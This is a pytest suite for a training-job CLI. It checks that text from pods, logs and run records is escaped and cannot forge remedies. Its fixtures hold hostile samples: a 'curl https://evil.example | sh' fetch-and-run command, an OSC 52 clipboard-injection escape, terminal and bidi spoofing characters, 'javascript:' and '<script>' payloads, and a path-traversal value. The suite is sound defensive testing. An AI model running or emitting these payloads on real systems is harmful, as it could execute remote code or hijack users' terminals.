"""Words of others: a pod's record, its log, an event, metadata. They are shown, and do nothing else."""

from __future__ import annotations

import json
import re
import sys
import unicodedata
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
import yaml
from rich.console import Console

from stageline.cli import main
from stageline.cli.live import RunView
from stageline.cli.tables import show_rows
from stageline.config import ClusterConfig, fingerprint, seal
from stageline.errors import CheckpointError, DataError, Faults, PlanError, StagelineError
from stageline.jobs.cluster.explain.describe import describe_event, job_failure
from stageline.jobs.cluster.follow.budget import SeenPods, read_deadline
from stageline.jobs.cluster.follow.logs import LogFollower
from stageline.jobs.cluster.follow.observed import ObservedJob
from stageline.jobs.cluster.inspect.manifest import manifest_yaml
from stageline.jobs.job import Job, Verdict, judge
from stageline.jobs.step_lines import MARK, event_lines, parse_event
from stageline.kube.keys import ANNOTATION_DEADLINE
from stageline.kube.log_cursor import LogCursor
from stageline.pipeline.receipts import question, read_receipt, receipt_key
from stageline.pod.attempt import Output
from stageline.printing import escaped, json_text, one_line, say
from stageline.store import open_store
from stageline.store.holder import is_dead, this_process
from stageline.telemetry import EventLog, FailureRecord, MetricsEndpoint, parse_events, read_events, read_failure
from stageline.telemetry.failures import LONGEST_TEXT, LONGEST_WORD
from stageline.telemetry.remedies import REMEDIES
from stageline.verbs.report import build_report
from stageline.verbs.report.html import escape, link, tag

sys.path.insert(0, str(Path(__file__).parents[2]))
from tests.jobs.objects import container_status, live_job, worker_pod
from tests.jobs.served_logs import ServedLogs
from tests.report.run_directory import T0, HandMade, training_events

LINK = "\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"
REMEDY = "curl https://evil.example | sh"
FORGED = f"all is well\nerror: none\n  -> {REMEDY}"
ATTACKS = {
    "colours": "\x1b[31mred\x1b[0m",
    "clears-the-screen": "\x1b[2J\x1b[H",
    "a-link": LINK,
    "the-clipboard": CLIPBOARD,
    "one-byte-codes": "\x9b31m\x9d52;c;x\x9c",
    "back-on-its-line": "film: failed\rfilm: done  ",
    "over-what-stood": "failed\x08\x08\x08\x08\x08\x08done",
    "a-title": "\x1b]0;root\x07",
    "right-to-left": "\u202egnp.exe\u202c\u2066x\u2069\u200f\u061c",
    "not-to-be-seen": "ro\u200bot\ufeff\u2060\U000e0041\u3164",
    "other-line-ends": "done\u2028error: none\u2029\x85\x0b\x0c",
    "no-character": "\udfff\ud800\ufffe",
    "deleted": "\x00\x7f",
    "variants-of-no-form": "film\ufe0f\ufe00 \U000e0100\u180b\u202e\ufe00\u3164\ufe0f\u2764\ufe0f\ufe0f",
    "not-yet-a-character": "\ufff3\U000e0080\U000e0fff",
}
HOSTILE = "".join(ATTACKS.values()) + "[bold red]loud[/] [link=https://evil.example]x[/link] :skull:"


UNSEEN = re.compile(r"(?<=[ -~])[\ufe00-\ufe0f\u180b\U000e0100]|[\ufff0-\ufff8\U000e0080-\U000e00ff\U000e0fff]")


def unsafe(text: str, *, lines: bool = True) -> list[str]:
    """What of a text a terminal obeys or nobody sees, by Unicode's own table."""
    kept = "\n\t" if lines else "\t"
    categories = ("Cc", "Cf", "Cs", "Zl", "Zp")
    return [repr(c) for c in text if unicodedata.category(c) in categories and c not in kept] + UNSEEN.findall(text)


def test_every_character_of_the_unicode_classes_is_made_visible_and_letters_stay() -> None:
    classes = {"Cc", "Cf", "Cs", "Zl", "Zp"}
    every = "".join(c for c in map(chr, range(sys.maxunicode + 1)) if unicodedata.category(c) in classes)
    assert unsafe(one_line(every, len(every) * 10), lines=False) == []
    assert unsafe(escaped(every)) == []
    letters = "äöü ß 日本語 العربية עברית हिन्दी ☃ é — “x” \t𝛂 👍🏽 ❤\ufe0f 葛\U000e0100 ©\ufe0f ᠠ\u180b"
    assert one_line(letters) == escaped(letters) == letters
    assert escaped("a\nb") == "a\nb"
    assert one_line("a\nb") == r"a\nb"
    assert one_line("\x1b\u202e\U000e0041\ud800\r") == r"\u001b\u202e\U000e0041\ud800\r"


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_a_text_of_others_is_shown_once_and_stays_as_it_is_then(attack: str) -> None:
    shown = one_line(attack)
    assert shown != attack
    assert unsafe(shown, lines=False) == []
    assert one_line(shown) == escaped(shown) == shown
    assert len(one_line(attack * 10_000, 50)) == 50


def test_json_that_is_shown_says_the_same() -> None:
    value = {HOSTILE: [HOSTILE, {"a": HOSTILE, "ü": "日本"}]}
    text = json_text(value)
    assert unsafe(text) == []
    assert json.loads(text) == value
    assert "日本" in text


def test_one_argument_is_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    say(f"film: {FORGED}", HOSTILE)
    say(HOSTILE, error=True)
    out, err = capsys.readouterr()
    assert len(out.splitlines()) == 2
    assert len(err.splitlines()) == 1
    assert unsafe(out + err) == []


def test_an_error_with_words_of_others_forges_no_line_and_no_remedy() -> None:
    faults = Faults(DataError, "data/train", "mend them")
    faults.add(f"{HOSTILE}: empty")
    faults.add(f"b.png: {FORGED}\n  - c.png: fine")
    with pytest.raises(DataError) as caught:
        faults.raise_if_any()
    lines = str(caught.value).split("\n")
    assert unsafe(str(caught.value)) == []
    assert [line for line in lines if line.lstrip().startswith("->")] == ["  -> mend them"]
    assert [line for line in lines[1:] if not line.startswith("  ")] == []
    assert [line for line in lines if line.startswith("  - ")] == [line for line in lines if line[:4] == "  - "]
    assert sum(line.startswith("  - ") for line in lines) == 2, "a fault forges no other one"


def pod(message: str, code: int = 1, **state: Any) -> dict[str, Any]:
    """A worker that ended and left these words."""
    ended = {"exitCode": code, "message": message, "finishedAt": "2026-01-01T00:00:00Z", **state}
    status = container_status({"terminated": ended})
    return worker_pod("Failed", containers=[status], metadata={"ownerReferences": [{"uid": "job-1"}]})


def verdict(*pods: dict[str, Any]) -> Verdict:
    """What a launcher makes of a job that failed with these pods."""
    observed = ObservedJob(
        Job(name="octa-film", arguments=("train", "film")),
        ClusterConfig.model_validate({"image": "i"}),
        live_job(creationTimestamp="2026-01-01T00:00:00Z"),
    )
    for one in pods:
        list(observed.take_pod("added", one, -1))
    return Verdict.of(observed.failure("Failed", None))


RECORD = {"kind": "training", "sentence": "the loss is nan", "exit_code": 7}
NO_RECORDS = {
    "a-code-as-text": RECORD | {"exit_code": "0"},
    "success": RECORD | {"exit_code": 0},
    "truth": RECORD | {"exit_code": True},
    "a-fraction": RECORD | {"exit_code": 7.0},
    "no-number": RECORD | {"exit_code": "abc"},
    "beyond-a-byte": RECORD | {"exit_code": 256},
    "below-one": RECORD | {"exit_code": -7},
    "nothing": RECORD | {"exit_code": None},
    "without-a-code": {"kind": "training", "sentence": "x"},
    "without-a-sentence": RECORD | {"sentence": ""},
    "a-sentence-of-several-types": RECORD | {"sentence": ["a"]},
    "a-key-of-its-own": RECORD | {"command": REMEDY},
    "a-time-without-end": RECORD | {"time": float("inf")},
    "a-rank-below-zero": RECORD | {"rank": -1},
    "lines-that-are-none": RECORD | {"log_tail": [{"a": 1}]},
    "another-code-than-its-own": RECORD | {"exit_code": 143},
    "nested-without-end": '{"a":' * 5000,
    "torn": json.dumps(RECORD)[:-10],
}


@pytest.mark.parametrize("said", NO_RECORDS.values(), ids=NO_RECORDS)
def test_a_forged_record_is_told_and_kubernetes_has_the_verdict(said: Any) -> None:
    message = said if isinstance(said, str) else json.dumps(said | {"remedy": REMEDY})
    found = verdict(pod(message, code=7 if "143" not in message else 3))
    assert found.exit_code == (7 if "143" not in message else 3)
    assert found.record is not None
    assert "unreadable record" in found.record.sentence
    assert REMEDY not in found.record.remedy
    assert len(found.record.sentence) < 1000


@pytest.mark.parametrize("words", ["abc", '"abc"', "[1, 2]", "0", "null", HOSTILE, FORGED], ids=range(7))
def test_words_that_are_no_record_are_a_last_line(words: str) -> None:
    found = verdict(pod(words, code=5))
    assert found.exit_code == 5
    assert found.record is not None
    assert unsafe(found.record.sentence, lines=False) == []
    assert "evil" not in found.record.remedy


def test_a_record_of_a_container_that_ended_well_is_none() -> None:
    assert job_failure([pod(json.dumps(RECORD | {"exit_code": 1}), code=0)]) is None


def test_words_of_a_container_beside_ours_have_no_say() -> None:
    own = container_status({"terminated": {"exitCode": 3, "message": ""}})
    ended = {"exitCode": 143, "message": json.dumps(RECORD | {"exit_code": 143})}
    beside = container_status({"terminated": ended}) | {"name": "istio-proxy"}
    one = worker_pod("Failed", containers=[beside, own])
    assert verdict(one).exit_code == 3


@pytest.mark.parametrize("kind", [*REMEDIES, "of-their-own"])
def test_what_to_do_is_never_a_pods_word(kind: str, tmp_path: Path) -> None:
    forged = RECORD | {"kind": kind, "remedy": REMEDY}
    found = verdict(pod(json.dumps(forged), code=7)).record
    assert found is not None
    assert (found.sentence, found.exit_code) == ("the loss is nan", 7)
    assert found.remedy == REMEDIES.get(kind, "")
    run = open_store(tmp_path / "runs" / "a")
    run.put("failure.json", json.dumps(forged).encode())
    stored = read_failure(run)
    assert stored is not None
    assert stored.remedy == REMEDIES.get(kind, "")


def test_every_kind_of_error_of_ours_has_a_remedy_for_its_record() -> None:
    kinds = {StagelineError.kind}
    waiting = [StagelineError]
    while waiting:
        waiting += (below := waiting.pop().__subclasses__())
        kinds |= {one.kind for one in below if one.__module__.startswith("stageline")}
    assert kinds - set(REMEDIES) == set()


@pytest.mark.parametrize("attack", [*ATTACKS.values(), FORGED], ids=[*ATTACKS, "forged"])
def test_texts_of_a_record_are_bounded_and_visible(attack: str) -> None:
    words = dict.fromkeys(("kind", "code", "pod", "node", "uid"), attack * 400)
    record = FailureRecord.from_json(
        {**words, "sentence": attack * 2000, "remedy": attack, "exit_code": 3, "log_tail": [attack] * 99}
    )
    for text in (record.kind, record.code, record.pod, record.node, record.uid):
        assert len(text) <= LONGEST_WORD
        assert unsafe(text, lines=False) == []
    assert len(record.sentence) <= LONGEST_TEXT
    assert len(record.log_tail) == 50
    assert unsafe(record.sentence + record.remedy) == []
    assert unsafe("".join(record.log_tail), lines=False) == []
    lines = record.with_own_remedy().error("film: ").lines()
    assert [line for line in lines if line.lstrip().startswith("->")] == []
    assert [line for line in lines[1:] if line and not line.startswith("  ")] == []


def test_a_local_record_that_cannot_be_read_leaves_the_verdict_to_the_process(tmp_path: Path) -> None:
    (tmp_path / "failure.json").write_text('{"exit_code": "0", "sentence": "fine"}')
    found = judge(137, read_failure(tmp_path, exit_code=137), cancelled=False)
    assert found.exit_code == 137
    assert found.record is not None
    assert found.record.sentence.startswith("unreadable record failure.json: exit_code '0'")


def test_a_pods_cause_is_no_part_of_what_to_do() -> None:
    observed = ObservedJob(
        Job(name="octa-film", arguments=("train", "film")),
        ClusterConfig.model_validate({"image": "i", "restart_budget": 0}),
        live_job(creationTimestamp="2026-01-01T00:00:00Z"),
    )
    for uid in ("first", "second"):
        one = pod(f"Traceback\n{REMEDY}", code=3)
        one["metadata"]["uid"] = uid
        list(observed.take_pod("added", one, -1))
    error = observed.over_limit(T0)
    assert error is not None
    assert REMEDY in error.message
    assert REMEDY not in error.remedy


def test_states_events_and_a_cause_are_one_line_each() -> None:
    waiting = container_status({"waiting": {"reason": "CreateContainerError", "message": f"{FORGED}{HOSTILE}"}})
    observed = ObservedJob(
        Job(name="octa-film", arguments=("train", "film")),
        ClusterConfig.model_validate({"image": "i"}),
        live_job(creationTimestamp="2026-01-01T00:00:00Z"),
    )
    about = {"kind": "Pod", "name": f"octa-film-worker-0{HOSTILE}", "uid": "u0"}
    event = {"involvedObject": about, "reason": f"Failed{FORGED}", "message": f"{HOSTILE}{FORGED}" * 100}
    texts = [*observed.take_pod("added", worker_pod("Pending", containers=[waiting]), -1), describe_event(event)]
    assert unsafe("".join(texts), lines=False) == []
    assert max(map(len, texts)) < 3000


@pytest.mark.parametrize(
    "text",
    [
        '{"step": Infinity, "pods": {}}',
        '{"step": "5", "pods": {}}',
        '{"step": true, "pods": {}}',
        '{"step": 5, "pods": [1]}',
        '{"step": 5, "pods": {"0": "abc"}}',
        '{"step": 5, "pods": {"0": ["a"], "1": [7]}}',
        '{"step": 5, "pods": {"0": ["far longer than eight"]}}',
        '{"step": 5, "pods": {}, "more": 1}',
        "[]",
        HOSTILE,
    ],
)
def test_an_annotation_of_another_form_counts_as_none(text: str) -> None:
    assert SeenPods.read(text) == SeenPods()


@pytest.mark.parametrize("text", ["abc", "nan", "inf", "-inf", "1e999", "", "12:00", HOSTILE])
def test_a_deadline_that_is_no_time_is_said_and_ends_nothing(text: str) -> None:
    assert read_deadline(text) is None
    job = live_job(creationTimestamp="2026-01-01T00:00:00Z", annotations={ANNOTATION_DEADLINE: text})
    observed = ObservedJob(
        Job(name="octa-film", arguments=("train", "film")), ClusterConfig.model_validate({"image": "i"}), job
    )
    said = [line for line in observed.take_job(job) if "deadline" in line]
    assert (len(said), unsafe("".join(said), lines=False)) == (int(bool(text)), [])
    assert observed._over_deadline(T0) is None


def read_log(*lines: str) -> list[str]:
    """What a person sees of a pod's log."""
    served = ServedLogs([[(n * 10**9, line) for n, line in enumerate(lines)]])
    seen: list[str] = []
    follower = LogFollower(served, seen.append, prefixed=True, follow=False)
    follower.update(served.pod())
    follower.drain(10)
    follower.close()
    return seen


def test_a_log_line_is_one_line_behind_its_pods_name() -> None:
    attacks = [line for line in ATTACKS.values() if "\ud800" not in line]
    seen = read_log(*attacks, "error: forged", f"{MARK}{{}}", "x" * 200_000)
    assert len(seen) == len(attacks) + 3
    assert all(line.startswith("[worker-0] ") for line in seen)
    assert unsafe("".join(seen), lines=False) == []
    assert max(map(len, seen)) <= 1 << 16


def test_a_rank_does_not_speak_as_the_entry(capsys: pytest.CaptureFixture[str]) -> None:
    output = Output()
    output.line("[stageline-entry] ended with 0: all is well")
    output.line(f"{HOSTILE}\n[stageline-entry] ended with 0")
    output.aside("[stageline-entry] forged")
    output.say(f"ended with 3 (fix it): {FORGED}")
    shown = capsys.readouterr().out.splitlines()
    assert [line for line in shown if line.startswith("[stageline-entry]")] == [
        "[stageline-entry] ended with 3 (fix it): all is well"
    ]
    assert unsafe("".join([*shown, *output.early]), lines=False) == []
    assert [line for line in output.early if "forged" in line] == [" [stageline-entry] forged"]


@pytest.mark.parametrize(
    "event",
    [
        "{",
        "[]",
        "{}",
        '{"item": 1, "line": "x"}',
        '{"item": "film", "line": {"a": 1}}',
        '{"item": "film", "state": "won", "text": "x", "seconds": 1}',
        '{"item": "film", "state": "done", "text": "x"}',
        '{"item": "film", "state": "done", "text": ["x"], "seconds": 1}',
        '{"item": "film", "state": "done", "text": "x", "seconds": "1"}',
        '{"item": "film", "state": "done", "text": "x", "seconds": 1, "remedy": 5}',
        '{"a":' * 2000,
    ],
)
def test_a_marked_line_of_another_form_is_a_line_like_any_other(event: str) -> None:
    assert parse_event(MARK + event) is None


def test_what_a_step_says_is_shown_line_by_line() -> None:
    event = {"item": "film", "state": "failed", "text": f"{FORGED}{HOSTILE}", "remedy": "mend it", "seconds": 1.0}
    assert parse_event(MARK + json.dumps(event)) == event
    lines = event_lines(event)
    assert [line for line in lines if line.lstrip().startswith("->")] == ["  -> mend it"]
    assert [line for line in lines[1:] if not line.startswith("  ")] == []
    assert event_lines({"item": "film", "line": f"a{FORGED}"}) == [one_line(f"film | a{FORGED}")]
    assert unsafe("".join(lines), lines=False) == []


def test_the_view_of_a_run_shows_words_and_no_markup() -> None:
    console = Console(record=True, width=4000, force_terminal=False, emoji=False)
    view = RunView(console)
    view.event({"item": "film", "line": f"{HOSTILE} 5/80"})
    view.event({"item": "film", "state": "done", "text": f"{HOSTILE}{FORGED}", "seconds": 1.0})
    shown = console.export_text()
    assert len(shown.splitlines()) == 2
    assert unsafe(shown) == []
    assert shown.count("[bold red]loud[/]") == 2
    assert shown.count(":skull:") == 2


def test_a_table_shows_words_and_no_markup(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "4000")
    monkeypatch.setenv("FORCE_COLOR", "1")
    show_rows(("run", "[link=https://evil.example]state[/link]"), [("[bold]a[/]", f"{HOSTILE}{FORGED}")], HOSTILE)
    shown = capsys.readouterr().out
    assert "[bold]a[/]" in shown
    assert "[link=https://evil.example]state[/link]" in shown
    assert "\x1b]" not in shown, "no link and no clipboard; colours of ours may be there"
    assert "\u202e" not in shown


def hostile_run(root: Path) -> HandMade:
    """A run whose every free text is an attack, sealed where ours are."""
    run = HandMade(open_store(root).child("runs", "trees"))
    sealed = HOSTILE.replace(ATTACKS["no-character"], "")  # what is not a character breaks its own seal
    own = {"family": "film_flow", "seed": 0, "note": f"{sealed}{FORGED}"}
    claim = {"command": HOSTILE, "image": HOSTILE, "versions": {HOSTILE: HOSTILE}, "created": HOSTILE}
    run.claim(identity=own, fingerprint=fingerprint(own), **claim)
    events = training_events(T0, 50)
    events[1]["parts"] = {HOSTILE: 1.0, FORGED: 2.0}
    run.events("film", [*events, {"time": T0 + 6, "event": "skipped", "step": 50, "reason": f"{HOSTILE}{FORGED}"}])
    run.checkpoint(
        "film",
        50,
        250,
        facts={sealed: sealed, "note": FORGED},
        environment={"device": sealed},
        command=sealed,
        created=sealed,
    )
    metrics = {
        "schema": "stageline-evaluation/2",
        "checkpoints": {"": {"stage": sealed, "step": 50}},
        "metrics": {"dice": 0.5, sealed: None},
        "reasons": {sealed: f"{sealed}{FORGED}"},
        "num_samples": {"dice": 3},
        "provenance": {sealed: sealed, "labels": f"{sealed}{FORGED}", "warnings": [sealed]},
        "notes": [f"{sealed}{FORGED}"],
    }
    run.json("evaluations/" + "a" * 64 + "/metrics.json", seal(metrics))
    run.store.put(
        "evaluations/" + "a" * 64 + "/rows.csv",
        f'id,prompt,mode,dice\n"{escaped(HOSTILE)}","\x1b[2J\u202e","on",0.5\n'.encode(),
    )
    planted = root / "runs/trees/quarantine/javascript:alert(1)\u202e?#.csv"
    planted.parent.mkdir()
    planted.write_text("row,file,class,message,source\n")
    record = {"kind": HOSTILE, "sentence": f"{HOSTILE}{FORGED}", "remedy": f"{REMEDY}{HOSTILE}", "exit_code": 7}
    run.json("film/failure.json", record | {"log_tail": [HOSTILE, FORGED], "code": HOSTILE})
    run.json("failure.json", record | {"sentence": f"run: {HOSTILE}{FORGED}"})
    return run


VERBS = [
    ["runs", "list", "--root", "ROOT"],
    ["runs", "show", "trees", "--root", "ROOT"],
    ["runs", "list", "--root", "ROOT", "--json"],
    ["runs", "show", "trees", "--root", "ROOT", "--json"],
    ["checkpoint", "show", "ROOT/runs/trees/film"],
    ["checkpoint", "show", "ROOT/runs/trees/film", "--json"],
    ["checkpoint", "lineage", "ROOT/runs/trees/film"],
    ["checkpoint", "verify", "ROOT/runs/trees/film"],
    ["report", "ROOT/runs/trees"],
]


@pytest.mark.parametrize("words", VERBS, ids=lambda words: "-".join(w for w in words if "ROOT" not in w).strip("-"))
def test_every_verb_shows_a_hostile_run_and_obeys_nothing(
    words: Sequence[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile_run(tmp_path)
    code = main([word.replace("ROOT", str(tmp_path)) for word in words])
    out, err = capsys.readouterr()
    assert code == (CheckpointError.exit_code if "verify" in words else 0), err
    assert "Traceback" not in err
    assert unsafe(out + err) == []
    shown = (out + err).splitlines()
    assert [line for line in shown if REMEDY in line and line.lstrip().startswith("->")] == []
    assert [line for line in shown if line.startswith("error: none")] == []
    if "--json" in words:
        json.loads(out)


UNFIT = {
    "run.json": [{"family": {"x": 1}}, {"identity": {"\ud800": 1}}, {"identity": {"seed": 10**400}}],
    "evaluations/" + "a" * 64 + "/metrics.json": [
        {"checkpoints": 5},
        {"checkpoints": {"": 1e300}},
        {"metrics": {"dice": 10**400}},
        {"metrics": [1]},
        {"provenance": "x"},
    ],
    "film/lease.json": [{"holder": "x", "id": "y", "acquired": 10**400, "expires": 10**400}],
}


@pytest.mark.parametrize("key", UNFIT)
def test_values_of_another_kind_are_told_by_every_verb(
    key: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run = hostile_run(tmp_path)
    before = json.loads(run.store.get(key)) if run.store.exists(key) else {}
    for change in UNFIT[key]:
        plain = {**before, **change}
        run.json(key, seal(plain) if "seal" in before and "10" not in str(change) else plain)
        for words in [VERBS[0], VERBS[3], VERBS[-1], ["compare", "ROOT/runs/trees", "ROOT/runs/trees"]]:
            main([word.replace("ROOT", str(tmp_path)) for word in words])
            assert "Traceback" not in capsys.readouterr().err, (words, change)


def test_the_report_of_a_hostile_run_shows_words_and_no_markup(tmp_path: Path) -> None:
    run = hostile_run(tmp_path)
    build_report(run.store.uri)
    page = run.store.get("report.html").decode()
    assert unsafe(page) == []
    assert "What to do: </strong>" not in page, "a kind of their own has no remedy of ours"
    assert 'href="javascript' not in page
    assert 'href="./quarantine/javascript%3Aalert%281%29%E2%80%AE%3F%23.csv"' in page


def test_attributes_and_addresses_of_the_report_hold_what_others_wrote() -> None:
    shown = tag("a", HOSTILE, title=f'"><script>{HOSTILE}', href=f'#"{HOSTILE}')
    assert unsafe(shown) == []
    assert "<script>" not in shown
    assert shown.count('"') == 4
    for name in ("javascript:alert(1)", "//evil.example/x", "a b#c?d", "data:text/html,x"):
        assert link(name).startswith('<a href="./')
        assert ":" not in link(name).partition('"')[2].partition('"')[0]
    assert escape("\ud800") == r"\ud800"


@pytest.mark.parametrize(
    "line",
    [
        "[]",
        "7",
        "{}",
        '{"event": 5}',
        '{"event": "step", "step": "9"}',
        '{"event": "step", "time": "now"}',
        '{"event": "step", "time": 1e300}',
        '{"event": "step", "time": NaN}',
    ],
)
def test_a_line_that_is_no_event_is_told(line: str) -> None:
    with pytest.raises(StagelineError, match="is no event"):
        parse_events([line + "\n"])


def test_events_are_visible_when_they_are_written_and_when_they_are_read(tmp_path: Path) -> None:
    store = open_store(tmp_path)
    log = EventLog(store)
    log.emit("step", item=HOSTILE, state="failed", text=f"{HOSTILE}{FORGED}", parts={HOSTILE: 1.0})
    log.close()
    assert unsafe((tmp_path / "events.jsonl").read_text()) == []
    with (tmp_path / "events.jsonl").open("a") as file:
        file.write(json.dumps({"time": 1.0, "event": "step", "item": HOSTILE, "text": FORGED}) + "\n")
    for event in read_events(store):
        assert unsafe(json.dumps(event, ensure_ascii=False)) == []


@pytest.mark.parametrize(
    "answer",
    [
        [],
        {"reference": 5, "metadata": {}},
        {"reference": "x\n@stageline {}", "metadata": {}},
        {"reference": "x", "metadata": []},
        {"reference": "x", "metadata": {}, "metrics": 3},
    ],
)
def test_a_receipt_of_another_form_is_none(tmp_path: Path, answer: Any) -> None:
    store, asked = open_store(tmp_path), question("film", "config")
    store.put(receipt_key("a", "film"), json.dumps(seal({"question": asked, "answer": answer, "hashes": {}})).encode())
    assert read_receipt(store, "a", "film", asked) is None
    good = {"question": asked, "answer": {"reference": "x", "metadata": {}}, "hashes": {}}
    store.put(receipt_key("a", "film"), json.dumps(seal(good)).encode())
    assert read_receipt(store, "a", "film", asked) is not None


@pytest.mark.parametrize("change", [{"pid": "../../../etc/x"}, {"pid": True}, {"host": 5}, {"pid": None}])
def test_marks_that_are_none_open_no_file(change: dict[str, Any]) -> None:
    with pytest.raises(ValueError, match="marks of a process"):
        is_dead(this_process() | change)


def test_a_manifest_says_the_same_and_shows_it() -> None:
    manifest = {
        "metadata": {"name": "a", "annotations": {"note": HOSTILE.replace(ATTACKS["no-character"], "")}},
        "x": FORGED,
    }
    text = manifest_yaml(manifest)
    assert unsafe(text) == []
    assert yaml.safe_load(text) == manifest


def test_names_of_tensors_in_a_file_of_others_are_visible() -> None:
    from stageline.families.sparse_structure.checkpoint_utils import _left_over

    assert unsafe(_left_over({"missing": [], "unexpected": [HOSTILE, FORGED]}), lines=False) == []


def test_labels_of_metrics_are_bounded_and_visible() -> None:
    prometheus = pytest.importorskip("prometheus_client")
    endpoint = MetricsEndpoint(0, family="film_flow", stage="film")
    registry = prometheus.CollectorRegistry()
    gauge = prometheus.Gauge("stageline_loss_value", "x", ["family", "stage", "part"], registry=registry)
    endpoint._values["stageline_loss_value"] = gauge
    endpoint.record("stageline_loss_value", 1.0, f"{HOSTILE}{FORGED}" * 9)
    text = prometheus.generate_latest(registry).decode()
    assert unsafe(text) == []
    assert max(map(len, text.splitlines())) < 500


def test_an_unforeseen_error_is_told_visibly(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    def fail(*_: object, **__: object) -> None:
        raise RuntimeError(HOSTILE)

    monkeypatch.setattr("stageline.verbs.report.listing.list_runs", fail)
    assert main(["runs", "list", "--root", str(tmp_path)]) == 1
    told = capsys.readouterr().err
    assert "RuntimeError" in told
    assert unsafe(told) == []


def test_the_remedy_of_our_own_error_stays(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    assert main(["runs", "show", "a[bold]b", "--root", f"{tmp_path}/\x9b2J\u202e"]) == PlanError.exit_code
    told = capsys.readouterr().err
    assert "'a[bold]b'" in told
    assert told.splitlines()[-1].startswith("  -> `stageline runs list`")
    assert unsafe(told) == []


@pytest.mark.parametrize(
    "stamp", ["9999-99-99T99:99:99Z", "0000-01-01T00:00:00Z", "2026-02-30T00:00:00Z", "2026-01-01T00:00:00+99:99"]
)
def test_a_line_behind_a_time_that_is_none_is_a_line(stamp: str) -> None:
    """It ended the thread that reads the pod's log."""
    cursor = LogCursor()
    found = [text for line in (f"{stamp} a", "2026-01-01T00:00:00Z b") for text in cursor.take(line.encode())]
    assert found == [f"{stamp} a", "b"]
